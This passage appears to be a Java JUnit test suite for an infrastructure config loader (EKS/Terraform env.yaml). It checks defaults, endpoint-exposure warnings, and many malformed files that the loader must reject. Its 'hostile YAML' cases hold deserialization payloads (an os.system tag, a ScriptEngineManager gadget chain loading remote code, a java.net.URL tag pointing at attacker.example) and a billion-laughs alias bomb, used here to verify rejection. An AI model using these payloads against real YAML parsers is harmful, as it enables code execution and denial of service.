package com.bridgeai.infra.config;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.fail;

import com.bridgeai.infra.config.EnvConfig.Addon;
import com.bridgeai.infra.config.EnvConfig.NatGateways;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The env.yaml loader against the seed file and a corpus of broken files. Every broken file is
 * the seed text with one mutation, written to {@code <temp>/test/env.yaml} and parsed for real.
 */
class EnvConfigLoaderTest {
    /** Surefire runs from the repository root. */
    static final Path SEED = Path.of("env", "test", "env.yaml");

    @TempDir
    Path root;

    // ---------------------------------------------------------------- the seed

    @Test
    void seedLoadsWithExactlyTheSeedValues() {
        EnvConfig c = EnvConfigLoader.load(SEED);

        assertEquals(SEED, c.file());
        assertEquals("tfstate-mlops-test", c.backend().bucket());
        assertEquals("terraform-state-locks", c.backend().lockTable());

        assertEquals(List.of("eu-west-2a", "eu-west-2b"), c.network().availabilityZones());
        assertEquals("10.155.48.0/20", c.network().cidrBlock());
        assertEquals("test", c.project().environment());
        assertEquals("digicat-mlops", c.project().profile());
        assertEquals("mlops", c.project().project());
        assertEquals("eu-west-2", c.project().region());
        assertEquals("pipeline", c.project().stage());

        var nodes = c.cluster().nodeGroup();
        assertEquals("AL2_x86_64_GPU", nodes.amiType());
        assertEquals("ON_DEMAND", nodes.capacityType());
        assertEquals(1, nodes.desiredSize());
        assertEquals(1, nodes.maxSize());
        assertEquals(1, nodes.minSize());
        assertEquals("1.30", c.cluster().kubernetesVersion());
        assertEquals(List.of("g4dn.xlarge"), nodes.instanceTypes());

        assertTrue(c.addons().enabled());
        assertEquals(List.of(
                new Addon("aws-ebs-csi-driver", "v1.32.0-eksbuild.1",
                        Optional.of("arn:aws:iam::<aws_account_id>:role/AmazonEKS_EBS_CSI_DriverRole")),
                new Addon("aws-efs-csi-driver", "v2.0.5-eksbuild.1",
                        Optional.of("arn:aws:iam::<aws_account_id>:role/AmazonEKS_EFS_CSI_DriverRole"))),
                c.addons().list());

        assertEquals("test", c.name());
        assertEquals("mlops-test-cluster", c.clusterName());
    }

    @Test
    void seedGetsTheDocumentedDefaultsOfTheOptionalKeys() {
        EnvConfig c = EnvConfigLoader.load(SEED);

        assertEquals(NatGateways.ONE_PER_AZ, c.network().natGateways());
        assertTrue(c.network().flowLogs(), "flow logs on unless turned off");
        assertEquals(365, c.logRetentionDays());
        assertEquals(100, c.cluster().nodeGroup().diskSizeGib());
        assertFalse(c.cluster().nodeGroup().gpuTaint());
        assertTrue(c.cluster().endpointPublicAccess());
        assertTrue(c.cluster().endpointPrivateAccess());
        assertEquals(List.of("0.0.0.0/0"), c.cluster().publicAccessCidrs());
        assertEquals(List.of("api", "audit", "authenticator", "controllerManager", "scheduler"), c.cluster().logTypes());
        assertEquals(Optional.empty(), c.emulatorEndpoint());
        assertFalse(c.emulated());
        assertTrue(c.appsDatabase().rds(), "apps_database: rds by default");
        assertEquals("db.t4g.small", c.appsDatabase().instanceClass());
        assertTrue(c.appsDatabase().multiAz(), "db_multi_az: true by default");
        // the seed's endpoint is open to the internet: one warning naming the key (its Kubernetes
        // version gets another, by date: EksVersionCalendarTest, with a fixed clock)
        List<ConfigWarning> endpoint = endpointWarnings(c);
        assertEquals(1, endpoint.size(), c.warnings()::toString);
        ConfigWarning w = endpoint.get(0);
        assertEquals("public_access_cidrs", w.key());
        assertEquals(0, w.line(), "the key is not in the file: the default is open");
        assertTrue(w.toString().startsWith(SEED + ": public_access_cidrs: the EKS API endpoint"), w::toString);
        assertTrue(w.message().contains("0.0.0.0/0") && w.message().contains("(the default)"), w::toString);
    }

    @Test
    void anOpenEndpointWrittenInTheFileIsWarnedAtItsLine() {
        Path file = writeEnv("test", plus("public_access_cidrs: [\"203.0.113.0/24\", \"0.0.0.0/0\"]"));
        EnvConfig c = EnvConfigLoader.load(file);
        List<ConfigWarning> endpoint = endpointWarnings(c);
        assertEquals(1, endpoint.size(), c.warnings()::toString);
        ConfigWarning w = endpoint.get(0);
        assertTrue(w.line() > 0 && w.toString().startsWith(file + ":" + w.line() + ": public_access_cidrs: "), w::toString);
        assertFalse(w.message().contains("(the default)"), w::toString);
    }

    @Test
    void noEndpointWarningWhenRestrictedPrivateOrEmulated() {
        assertEquals(List.of(), endpointWarnings(EnvConfigLoader.load(writeEnv("test",
                restricted("public_access_cidrs: [\"203.0.113.0/24\"]")))));
        assertEquals(List.of(), endpointWarnings(EnvConfigLoader.load(writeEnv("test",
                restricted("endpoint_public_access: false")))));
        assertEquals(List.of(), EnvConfigLoader.load(writeEnv("test",
                plus("emulator_endpoint: \"http://127.0.0.1:4566\""))).warnings(), "an emulated env gets no warning at all");
    }

    /** The warnings about the public endpoint (the seed's Kubernetes version gets one of its own, by date). */
    static List<ConfigWarning> endpointWarnings(EnvConfig env) {
        return env.warnings().stream()
                .filter(w -> w.key().equals("public_access_cidrs") || w.key().equals("endpoint_public_access")).toList();
    }

    @Test
    void logRetentionAndFlowLogsCanBeSet() {
        EnvConfig c = EnvConfigLoader.load(writeEnv("test", plus("log_retention_days: 731\nflow_logs: false")));
        assertEquals(731, c.logRetentionDays());
        assertFalse(c.network().flowLogs());
    }

    @Test
    void multiAzCanBeTurnedOffForTheRdsDatabase() {
        EnvConfig c = EnvConfigLoader.load(writeEnv("test", plus("db_multi_az: false")));
        assertFalse(c.appsDatabase().multiAz());
        assertTrue(c.appsDatabase().rds());
    }

    @Test
    void theAccessLogBucketIsTheStateBucketsNameCutToFit() {
        assertEquals("tfstate-mlops-test-logs", new EnvConfig.StateBackend("tfstate-mlops-test", "t", true).accessLogBucket());
        String longName = "a".repeat(57) + "-b.c-d"; // 63 characters: cut to 58, trailing - and . dropped
        String derived = new EnvConfig.StateBackend(longName, "t", true).accessLogBucket();
        assertEquals("a".repeat(57) + "-logs", derived);
        assertTrue(derived.length() <= 63);
    }

    @Test
    void theSeedOpensItsEndpointToTheWorldOnPurposeAndNoOtherRealEnvMay() {
        EnvConfig seed = EnvConfigLoader.load(SEED);
        assertTrue(seed.cluster().publicAccessOpenToWorld(), "env/test says so explicitly");
        assertEquals(List.of("0.0.0.0/0"), seed.cluster().publicAccessCidrs());
        // the same file without that line is refused (BadFiles: "endpoint open to the world ..."),
        // an emulated env is not (moto's endpoint is on this machine)
        EnvConfig emulated = EnvConfigLoader.load(writeEnv("test", restricted("emulator_endpoint: \"http://127.0.0.1:4566\"")));
        assertFalse(emulated.cluster().publicAccessOpenToWorld());
        assertEquals(List.of("0.0.0.0/0"), emulated.cluster().publicAccessCidrs());
    }

    @Test
    void theUpgradePolicyIsStandardUnlessTheFileSaysExtended() {
        assertEquals("STANDARD", EnvConfigLoader.load(SEED).cluster().supportType());
        assertEquals("EXTENDED", EnvConfigLoader.load(writeEnv("test", plus("support_type: \"EXTENDED\""))).cluster().supportType());
        assertEquals("STANDARD", EnvConfigLoader.load(writeEnv("test", plus("support_type: STANDARD"))).cluster().supportType());
    }

    @Test
    void optionalKeysOverrideTheDefaults() {
        EnvConfig c = EnvConfigLoader.load(writeEnv("test", restricted("""
                nat_gateways: "single"
                flow_logs: true
                node_disk_size: 200
                gpu_taint: true
                endpoint_public_access: false
                endpoint_private_access: true
                public_access_cidrs: ["203.0.113.0/24"]
                cluster_log_types: ["api", "scheduler"]
                emulator_endpoint: "http://127.0.0.1:4566"
                """)));

        assertEquals(NatGateways.SINGLE, c.network().natGateways());
        assertTrue(c.network().flowLogs());
        assertEquals(200, c.cluster().nodeGroup().diskSizeGib());
        assertTrue(c.cluster().nodeGroup().gpuTaint());
        assertFalse(c.cluster().endpointPublicAccess());
        assertTrue(c.cluster().endpointPrivateAccess());
        assertEquals(List.of("203.0.113.0/24"), c.cluster().publicAccessCidrs());
        assertEquals(List.of("api", "scheduler"), c.cluster().logTypes());
        assertEquals(Optional.of("http://127.0.0.1:4566"), c.emulatorEndpoint());
        assertTrue(c.emulated());
    }

    @Test
    void theRealEnvFolderLoadsThroughLoadAll() {
        List<EnvConfig> envs = EnvConfigLoader.loadAll(Path.of("env"), Set.of("test"));
        assertEquals(List.of("test"), envs.stream().map(EnvConfig::name).toList());
    }

    // ---------------------------------------------------------------- edge values that must load

    static Stream<Arguments> goodVariants() {
        return Stream.of(
                Arguments.of("/26 is just big enough for 2 AZs x 2 subnets", with("cidr_block", "\"10.155.48.0/26\"")),
                Arguments.of("/25 is just big enough for 3 AZs x 2 subnets", with(with("availability_zones",
                        "[\"eu-west-2a\", \"eu-west-2b\", \"eu-west-2c\"]"), "cidr_block", "\"10.155.48.0/25\"")),
                Arguments.of("/16 is the biggest VPC", with("cidr_block", "\"10.155.0.0/16\"")),
                Arguments.of("scale to zero", with(with("min_size", "0"), "desired_size", "0")),
                Arguments.of("AL2 is fine up to 1.32", with("kubernetes_version", "\"1.32\"")),
                Arguments.of("AL2023 on 1.33", with(with("kubernetes_version", "\"1.33\""),
                        "ami_type", "\"AL2023_x86_64_NVIDIA\"")),
                Arguments.of("single-quoted version", with("kubernetes_version", "'1.30'")),
                Arguments.of("12-digit account in the role ARN",
                        replace("<aws_account_id>:role/AmazonEKS_EBS", "123456789012:role/AmazonEKS_EBS")),
                Arguments.of("add-on without a role", replace(
                        "\"v1.32.0-eksbuild.1\",\n    service_account_role_arn: arn:aws:iam::<aws_account_id>:role/AmazonEKS_EBS_CSI_DriverRole",
                        "\"v1.32.0-eksbuild.1\"")),
                Arguments.of("add-ons off and none listed", without(with("enable_addons", "false"), "addons")
                        .replaceAll("(?s)\n  \\{.*\\]\n", "\n")),
                Arguments.of("bucket with dots", with("bucket", "\"tfstate.mlops.test\"")),
                Arguments.of("block-style lists", with("availability_zones", "\n  - eu-west-2a\n  - eu-west-2b")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("goodVariants")
    void edgeValuesWithinTheRulesLoad(String name, String yaml) {
        EnvConfig c = EnvConfigLoader.load(writeEnv("test", yaml));
        assertEquals("test", c.name());
    }

    // ---------------------------------------------------------------- the corpus of broken files

    /**
     * Case name, file text, the key path of the error, the line it must point at (an int, the
     * first line containing a marker string, or null to leave unchecked) and fragments its
     * rendered text must contain.
     */
    static Arguments bad(String name, String yaml, String keyPath, Object line, String... fragments) {
        return Arguments.of(name, yaml, keyPath, line, List.of(fragments));
    }

    static Stream<Arguments> badFiles() {
        String threeZones = "[\"eu-west-2a\", \"eu-west-2b\", \"eu-west-2c\"]";
        return Stream.of(
                // --- YAML itself
                bad("YAML syntax error", with("region", "eu-west-2: oops"), "", lineOf(seed(), "region:"),
                        "expected valid YAML, found a syntax error", "mapping values are not allowed"),
                bad("unclosed flow list", seed().substring(0, seed().lastIndexOf(']')), "", null,
                        "expected valid YAML, found a syntax error"),
                bad("empty file", "", "", 0, "expected a mapping of env keys, found an empty file"),
                bad("only comments", "# nothing here yet\n", "", 0, "found an empty file"),
                bad("a list, not a mapping", "- bucket: tfstate-mlops-test\n- region: eu-west-2\n", "", 1,
                        "expected a mapping of keys to values, found a list"),
                bad("a bare string", "just some text\n", "", 1, "expected a mapping", "found the string \"just some text\""),
                bad("two documents", seed() + "---\nbucket: \"other\"\n", "", "---",
                        "expected a single YAML document, found a second one"),
                bad("not UTF-8", "bucket: \"tfstate-mlops-\u00ff\"\n", "", 0, "expected UTF-8 text"),
                bad("non-string key", plus("1: one"), "", "1: one", "expected keys to be plain words, found the number 1"),
                // --- keys
                bad("missing required key", without("region"), "region", 0,
                        "missing required key", "expected 'region:' with a value, found no such key"),
                bad("required key without a value", with("region", ""), "region", "region:",
                        "expected a value, found nothing (null)"),
                bad("misspelt key, did you mean", seed().replace("bucket:", "bukcet:"), "bukcet", "bukcet:",
                        "unknown key (did you mean 'bucket'?)", "found 'bukcet'"),
                bad("duplicate key", plus("bucket: \"tfstate-mlops-other\""), "bucket", "bucket: \"tfstate-mlops-other",
                        "duplicate key", "expected each key once", "first set on line " + lineOf(seed(), "bucket:")),
                // --- types
                bad("string given a number", with("bucket", "12345"), "bucket", "bucket:",
                        "expected a string, found the number 12345"),
                bad("string given a boolean", with("stage", "on"), "stage", "stage:",
                        "expected a string, found the boolean on"),
                bad("string given an unquoted date", with("stage", "2024-06-01"), "stage", "stage:",
                        "expected a string, found the date 2024-06-01", "quote it"),
                bad("list given a string", with("availability_zones", "\"eu-west-2a\""), "availability_zones",
                        "availability_zones:", "expected a list, found the string \"eu-west-2a\""),
                bad("list element not a string", with("instance_types", "[\"g4dn.xlarge\", 5]"), "instance_types[1]",
                        "instance_types:", "expected a string, found the number 5"),
                bad("int given a string", with("desired_size", "\"1\""), "desired_size", "desired_size:",
                        "expected a whole number, found the string \"1\""),
                bad("int given a fraction", with("max_size", "1.5"), "max_size", "max_size:",
                        "expected a whole number, found the number 1.5"),
                bad("int too big", with("max_size", "99999999999"), "max_size", "max_size:",
                        "expected a whole number between 0 and 2147483647, found 99999999999"),
                bad("bool given a string", with("enable_addons", "\"true\""), "enable_addons", "enable_addons:",
                        "expected true or false, found the string \"true\""),
                // --- kubernetes_version
                bad("kubernetes_version unquoted 1.30", with("kubernetes_version", "1.30"), "kubernetes_version",
                        "kubernetes_version:", "found the number 1.30", "reads an unquoted 1.30 as 1.3",
                        "kubernetes_version: \"1.30\""),
                bad("kubernetes_version with a patch", with("kubernetes_version", "\"1.30.2\""), "kubernetes_version",
                        "kubernetes_version:", "expected a Kubernetes minor version \"1.NN\"", "found \"1.30.2\""),
                bad("kubernetes_version too old", with("kubernetes_version", "\"1.22\""), "kubernetes_version",
                        "kubernetes_version:", "1.23 or newer", "found \"1.22\""),
                bad("kubernetes_version with a v", with("kubernetes_version", "\"v1.30\""), "kubernetes_version",
                        "kubernetes_version:", "found \"v1.30\""),
                // --- network
                bad("CIDR syntax", with("cidr_block", "\"10.155.48/20\""), "cidr_block", "cidr_block:",
                        "expected an IPv4 CIDR block like \"10.0.0.0/16\", found \"10.155.48/20\""),
                bad("CIDR octet over 255", with("cidr_block", "\"10.300.48.0/20\""), "cidr_block", "cidr_block:",
                        "expected an IPv4 CIDR block", "found \"10.300.48.0/20\""),
                bad("CIDR with host bits set", with("cidr_block", "\"10.155.48.1/20\""), "cidr_block", "cidr_block:",
                        "expected the network address of the block (\"10.155.48.0/20\")", "host bits set"),
                bad("CIDR too small for 2x3 subnets", with(with("availability_zones", threeZones),
                        "cidr_block", "\"10.155.48.0/27\""), "cidr_block", "cidr_block:",
                        "expected room for 6 subnets", "3 zones", "found /27", "use /25 or larger"),
                bad("CIDR too small for 2x2 subnets", with("cidr_block", "\"10.155.48.0/28\""), "cidr_block",
                        "cidr_block:", "expected room for 4 subnets", "found /28", "use /26 or larger"),
                bad("CIDR prefix below /16", with("cidr_block", "\"10.154.0.0/15\""), "cidr_block", "cidr_block:",
                        "expected a prefix between /16 and /28", "found /15"),
                bad("CIDR prefix above /28", with("cidr_block", "\"10.155.48.0/29\""), "cidr_block", "cidr_block:",
                        "expected a prefix between /16 and /28", "found /29"),
                bad("one AZ only", with("availability_zones", "[\"eu-west-2a\"]"), "availability_zones",
                        "availability_zones:", "expected at least two distinct availability zones", "found [eu-west-2a]"),
                bad("duplicate AZs", with("availability_zones", "[\"eu-west-2a\", \"eu-west-2b\", \"eu-west-2a\"]"),
                        "availability_zones", "availability_zones:", "expected each zone once",
                        "found duplicates in [eu-west-2a, eu-west-2b, eu-west-2a]"),
                bad("AZ not in the region", with("availability_zones", "[\"eu-west-2a\", \"eu-west-1b\"]"),
                        "availability_zones[1]", "availability_zones:",
                        "expected a zone of region eu-west-2 like \"eu-west-2a\", found \"eu-west-1b\""),
                bad("bad region format", with("region", "\"EU-West-2\""), "region", "region:",
                        "expected an AWS region code like \"eu-west-2\", found \"EU-West-2\""),
                bad("region without a number", with("region", "\"eu-west\""), "region", "region:",
                        "found \"eu-west\""),
                bad("bad nat_gateways", plus("nat_gateways: \"three\""), "nat_gateways", "nat_gateways:",
                        "expected \"one_per_az\" or \"single\", found \"three\""),
                bad("nat_gateways as a number", plus("nat_gateways: 3"), "nat_gateways", "nat_gateways:",
                        "expected a string, found the number 3"),
                // --- backend
                bad("bucket uppercase", with("bucket", "\"TFstate-mlops-test\""), "bucket", "bucket:",
                        "expected an S3 bucket name (3-63 characters of a-z 0-9", "found \"TFstate-mlops-test\""),
                bad("bucket too short", with("bucket", "\"tf\""), "bucket", "bucket:",
                        "expected an S3 bucket name (3-63 characters", "found \"tf\""),
                bad("bucket too long", with("bucket", "\"" + "t".repeat(64) + "\""), "bucket", "bucket:",
                        "3-63 characters", "found \"tttt"),
                bad("bucket formatted as an IP", with("bucket", "\"192.168.10.1\""), "bucket", "bucket:",
                        "not formatted as an IP address", "found \"192.168.10.1\""),
                bad("bucket with ..", with("bucket", "\"tfstate..mlops\""), "bucket", "bucket:",
                        "no two adjacent dots", "found \"tfstate..mlops\""),
                bad("bucket with xn-- prefix", with("bucket", "\"xn--tfstate\""), "bucket", "bucket:",
                        "reserved prefix", "found \"xn--tfstate\""),
                bad("bad dynamodb table name", with("dynamodb_table", "\"terraform state locks\""), "dynamodb_table",
                        "dynamodb_table:", "expected a DynamoDB table name", "found \"terraform state locks\""),
                bad("dynamodb table name too short", with("dynamodb_table", "\"tl\""), "dynamodb_table",
                        "dynamodb_table:", "3-255 characters", "found \"tl\""),
                // --- project
                bad("environment is not the folder name", with("environment", "\"prod\""), "environment", "environment:",
                        "expected the environment's folder name \"test\"", "found \"prod\""),
                bad("environment with uppercase", with("environment", "\"Test\""), "environment", "environment:",
                        "2-32 characters of a-z 0-9 and '-'", "found \"Test\""),
                bad("bad project name", with("project", "\"MLOps\""), "project", "project:",
                        "2-32 characters of a-z 0-9", "found \"MLOps\""),
                bad("bad profile name", with("profile", "\"digicat mlops\""), "profile", "profile:",
                        "expected an AWS CLI profile name", "found \"digicat mlops\""),
                // --- node group
                bad("min > desired", with(with("min_size", "2"), "max_size", "3"), "desired_size", "desired_size:",
                        "expected min_size <= desired_size, found desired_size 1 < min_size 2"),
                bad("desired > max", with("desired_size", "2"), "desired_size", "desired_size:",
                        "expected desired_size <= max_size, found desired_size 2 > max_size 1"),
                bad("min > max", with(with(without("desired_size"), "min_size", "3"), "max_size", "2"), "min_size",
                        "min_size:", "expected min_size <= max_size, found 3 > 2"),
                bad("max 0", with(with(with("min_size", "0"), "desired_size", "0"), "max_size", "0"), "max_size",
                        "max_size:", "expected 1 or more", "found 0"),
                bad("negative min", with("min_size", "-1"), "min_size", "min_size:", "expected 0 or more, found -1"),
                bad("empty instance_types", with("instance_types", "[]"), "instance_types", "instance_types:",
                        "expected at least one EC2 instance type", "found an empty list"),
                bad("bad instance type", with("instance_types", "[\"g4dn\"]"), "instance_types", "instance_types:",
                        "expected EC2 instance types like \"g4dn.xlarge\", found \"g4dn\""),
                bad("unknown ami_type", with("ami_type", "\"AL3_x86_64\""), "ami_type", "ami_type:",
                        "expected one of AL2023_ARM_64_NVIDIA", "found \"AL3_x86_64\""),
                bad("unknown capacity_type", with("capacity_type", "\"RESERVED\""), "capacity_type", "capacity_type:",
                        "expected one of CAPACITY_BLOCK, ON_DEMAND, SPOT, found \"RESERVED\""),
                bad("AL2 AMI on Kubernetes 1.33", with("kubernetes_version", "\"1.33\""), "ami_type", "ami_type:",
                        "expected an AL2023 or Bottlerocket AMI type for kubernetes_version 1.33",
                        "found \"AL2_x86_64_GPU\""),
                bad("disk too small", plus("node_disk_size: 10"), "node_disk_size", "node_disk_size:",
                        "between 20 and 16384, found 10"),
                bad("log retention CloudWatch does not offer", plus("log_retention_days: 100"), "log_retention_days",
                        "log_retention_days:", "expected a CloudWatch Logs retention period in days, one of [1, 3, 5,",
                        "3653], found 100"),
                bad("log retention not a number", plus("log_retention_days: \"a year\""), "log_retention_days",
                        "log_retention_days:", "expected a whole number"),
                // --- cluster endpoint
                bad("both endpoint accesses false", plus("endpoint_public_access: false\nendpoint_private_access: false"),
                        "endpoint_private_access", "endpoint_private_access:",
                        "expected at least one of endpoint_public_access / endpoint_private_access to be true, found both false"),
                bad("public access CIDR with host bits", plus("public_access_cidrs: [\"203.0.113.7/24\"]"),
                        "public_access_cidrs", "public_access_cidrs:", "found \"203.0.113.7/24\""),
                // --- a real-AWS endpoint open to the world needs the file's explicit word (checkov CKV_AWS_38)
                bad("endpoint open to the world by default, without public_access_open_to_world",
                        without("public_access_open_to_world"), "public_access_cidrs", 0,
                        "expected the public EKS API endpoint of this real-AWS env to be limited to your ranges",
                        "found it open to 0.0.0.0/0 (public_access_cidrs' default)", "public_access_open_to_world: true"),
                bad("endpoint open to the world written out, without public_access_open_to_world",
                        restricted("public_access_cidrs: [\"203.0.113.0/24\", \"0.0.0.0/0\"]"), "public_access_cidrs",
                        "public_access_cidrs:", "found it open to 0.0.0.0/0:", "endpoint_public_access: false"),
                bad("public_access_open_to_world with restricted ranges", plus("public_access_cidrs: [\"203.0.113.0/24\"]"),
                        "public_access_open_to_world", "public_access_open_to_world:",
                        "expected public_access_open_to_world: true only with the public endpoint on and 0.0.0.0/0",
                        "found public_access_cidrs without 0.0.0.0/0 (remove the key)"),
                bad("public_access_open_to_world with a private endpoint", plus("endpoint_public_access: false"),
                        "public_access_open_to_world", "public_access_open_to_world:", "found endpoint_public_access: false"),
                bad("public_access_open_to_world not a bool", with("public_access_open_to_world", "\"yes please\""),
                        "public_access_open_to_world", "public_access_open_to_world:", "expected true or false"),
                // --- upgrade policy
                bad("support_type in lower case", plus("support_type: \"standard\""), "support_type", "support_type:",
                        "expected STANDARD (EKS upgrades the cluster when the version's standard support ends) or EXTENDED",
                        "found \"standard\""),
                bad("support_type unknown", plus("support_type: \"NONE\""), "support_type", "support_type:", "found \"NONE\""),
                bad("support_type a list", plus("support_type: [\"STANDARD\"]"), "support_type", "support_type:",
                        "expected a string"),
                bad("unknown log type", plus("cluster_log_types: [\"api\", \"everything\"]"), "cluster_log_types",
                        "cluster_log_types:", "expected values from api, audit", "found \"everything\""),
                // --- add-ons
                bad("add-on missing addon_version", replace("    addon_version: \"v2.0.5-eksbuild.1\",\n", ""),
                        "addons[1].addon_version", "{\n    addon_name: \"aws-efs-csi-driver\"",
                        "missing required key", "expected 'addon_version:' with a value"),
                bad("add-on missing addon_name", replace("addon_name: \"aws-efs-csi-driver\",\n    ", ""),
                        "addons[1].addon_name", "{\n    addon_version: \"v2.0.5",
                        "missing required key", "expected 'addon_name:' with a value"),
                bad("enable_addons without an addons key", seed().replaceAll("(?s)\naddons: \\[.*\\]\n", "\n"),
                        "enable_addons", "enable_addons:",
                        "expected at least one entry in addons while enable_addons is true, found no addons key"),
                bad("enable_addons with an empty addons list", seed().replaceAll("(?s)\naddons: \\[.*\\]\n", "\naddons: []\n"),
                        "enable_addons", "enable_addons:", "found an empty list", "set enable_addons: false"),
                bad("enable_addons with addons set to nothing", seed().replaceAll("(?s)\naddons: \\[.*\\]\n", "\naddons:\n"),
                        "enable_addons", "enable_addons:", "found no value", "set enable_addons: false"),
                bad("create_lock_table not a boolean", plus("create_lock_table: \"no\""), "create_lock_table",
                        "create_lock_table:", "expected true or false, found the string \"no\""),
                bad("add-on version in none of the three forms", replace("\"v2.0.5-eksbuild.1\"", "\"newest\""),
                        "addons[1].addon_version", "\"newest\"",
                        "expected a pinned version like \"v1.32.0-eksbuild.1\", \"default\" (the version AWS marks default"
                                + " for the cluster's Kubernetes version) or \"latest\" (the newest AWS offers for it), both"
                                + " resolved at plan time, found \"newest\""),
                bad("add-on version in the wrong case", replace("\"v2.0.5-eksbuild.1\"", "\"Default\""),
                        "addons[1].addon_version", "\"Default\"", "found \"Default\""),
                bad("apps_database neither rds nor bundled", plus("apps_database: \"aurora\""), "apps_database",
                        "apps_database:", "expected \"rds\" (an Amazon RDS for PostgreSQL instance", "or \"bundled\"",
                        "found \"aurora\""),
                bad("apps_database not a string", plus("apps_database: true"), "apps_database", "apps_database:",
                        "expected a string"),
                bad("db_instance_class not an RDS class", plus("db_instance_class: \"t4g.small\""), "db_instance_class",
                        "db_instance_class:", "expected an RDS DB instance class like \"db.t4g.small\", found \"t4g.small\""),
                bad("db_instance_class with the bundled database", plus("apps_database: \"bundled\"\ndb_instance_class: \"db.t4g.small\""),
                        "db_instance_class", "db_instance_class:",
                        "expected no db_instance_class with apps_database: bundled", "found \"db.t4g.small\""),
                bad("db_multi_az not a boolean", plus("db_multi_az: \"yes please\""), "db_multi_az", "db_multi_az:",
                        "expected true or false"),
                bad("db_multi_az with the bundled database", plus("apps_database: \"bundled\"\ndb_multi_az: true"),
                        "db_multi_az", "db_multi_az:",
                        "expected no db_multi_az with apps_database: bundled (there is no RDS instance to replicate), found true"),
                bad("gpu_taint on a CPU image", replace(replace("\"AL2_x86_64_GPU\"", "\"AL2023_x86_64_STANDARD\""),
                        "\"1.30\"", "\"1.33\"") + "gpu_taint: true\n", "gpu_taint", "gpu_taint:",
                        "expected gpu_taint only with a GPU ami_type", "\"AL2023_x86_64_STANDARD\""),
                bad("bad role ARN", replace("arn:aws:iam::<aws_account_id>:role/AmazonEKS_EBS_CSI_DriverRole",
                        "arn:aws:iam::12345:role/AmazonEKS_EBS_CSI_DriverRole"),
                        "addons[0].service_account_role_arn", "arn:aws:iam::12345", "expected an IAM role ARN",
                        "found \"arn:aws:iam::12345:role/AmazonEKS_EBS_CSI_DriverRole\""),
                bad("role ARN with an empty path segment", replace("role/AmazonEKS_EBS_CSI_DriverRole",
                        "role/service-role//AmazonEKS_EBS_CSI_DriverRole"),
                        "addons[0].service_account_role_arn", "arn:aws:iam::", "an optional path like role/service-role/Name",
                        "found \"arn:aws:iam::<aws_account_id>:role/service-role//AmazonEKS_EBS_CSI_DriverRole\""),
                bad("role name over 64 characters", replace("role/AmazonEKS_EBS_CSI_DriverRole",
                        "role/" + "R".repeat(65)),
                        "addons[0].service_account_role_arn", "arn:aws:iam::", "a name of 1-64 characters"),
                bad("duplicate add-on names", replace("\"aws-efs-csi-driver\"", "\"aws-ebs-csi-driver\""), "addons",
                        "addons: [", "expected each addon_name once, found \"aws-ebs-csi-driver\" twice"),
                bad("unknown key inside an add-on", replace("addon_version: \"v1.32.0", "addon_versoin: \"v1.32.0"),
                        "addons[0].addon_versoin", "addon_versoin", "unknown key (did you mean 'addon_version'?)",
                        "expected one of addon_name, addon_version, service_account_role_arn"),
                bad("unknown add-on without a role ARN", replace("addon_name: \"aws-efs-csi-driver\",\n    addon_version: \"v2.0.5-eksbuild.1\",\n    service_account_role_arn: arn:aws:iam::<aws_account_id>:role/AmazonEKS_EFS_CSI_DriverRole",
                        "addon_name: \"adot\",\n    addon_version: \"v2.0.5-eksbuild.1\""),
                        "addons[1].addon_name", "adot",
                        "expected service_account_role_arn for add-on \"adot\"",
                        "known add-ons: amazon-cloudwatch-observability, aws-ebs-csi-driver, aws-efs-csi-driver",
                        "found no service_account_role_arn"),
                bad("cluster name too long for IAM role names", with("project", "\"a-very-long-project-name-abcde\""),
                        "environment", "environment:", "at most 40 characters", "found 43"),
                bad("add-on not a mapping", with("addons", "[\"aws-ebs-csi-driver\"]").replaceAll("(?s)\n  \\{.*\\]\n", "\n"),
                        "addons[0]", "addons: [", "expected a mapping of keys to values, found the string \"aws-ebs-csi-driver\""),
                // --- hostile YAML
                bad("python object tag", with("profile", "!!python/object/apply:os.system [\"id\"]"), "profile",
                        "profile:", "found the tag tag:yaml.org,2002:python/object/apply:os.system",
                        "tags are not allowed"),
                bad("java class tag", with("bucket", "!!java.net.URL [\"http://attacker.example/\"]"), "bucket",
                        "bucket:", "found the tag tag:yaml.org,2002:java.net.URL", "tags are not allowed"),
                bad("custom local tag", with("region", "!foo \"eu-west-2\""), "region", "region:",
                        "found the tag !foo", "tags are not allowed"),
                bad("tag inside an add-on", replace("arn:aws:iam::<aws_account_id>:role/AmazonEKS_EFS_CSI_DriverRole",
                        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]"),
                        "addons[1].service_account_role_arn", "javax.script",
                        "found the tag tag:yaml.org,2002:javax.script.ScriptEngineManager"),
                bad("billion laughs", plus(BILLION_LAUGHS), "", 0,
                        "expected at most 20 aliases", "alias bomb"),
                bad("alias inside its own anchor", with("availability_zones", "&zones [\"eu-west-2a\", *zones]"),
                        "availability_zones[1]", "availability_zones:", "found an alias to its own enclosing anchor &zones"),
                bad("merge key", plus("<<: {stage: \"pipeline\"}"), "", "<<",
                        "expected keys to be plain words, found the merge key <<"),
                // --- emulator
                bad("emulator endpoint not loopback", plus("emulator_endpoint: \"http://emulator.example.com:4566\""),
                        "emulator_endpoint", "emulator_endpoint:", "expected a loopback URL like \"http://127.0.0.1:5000\"",
                        "found \"http://emulator.example.com:4566\""));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("badFiles")
    void brokenFileIsRejectedWithAPreciseMessage(String name, String yaml, String keyPath, Object line,
            List<String> fragments) {
        Path file = writeEnv("test", yaml);

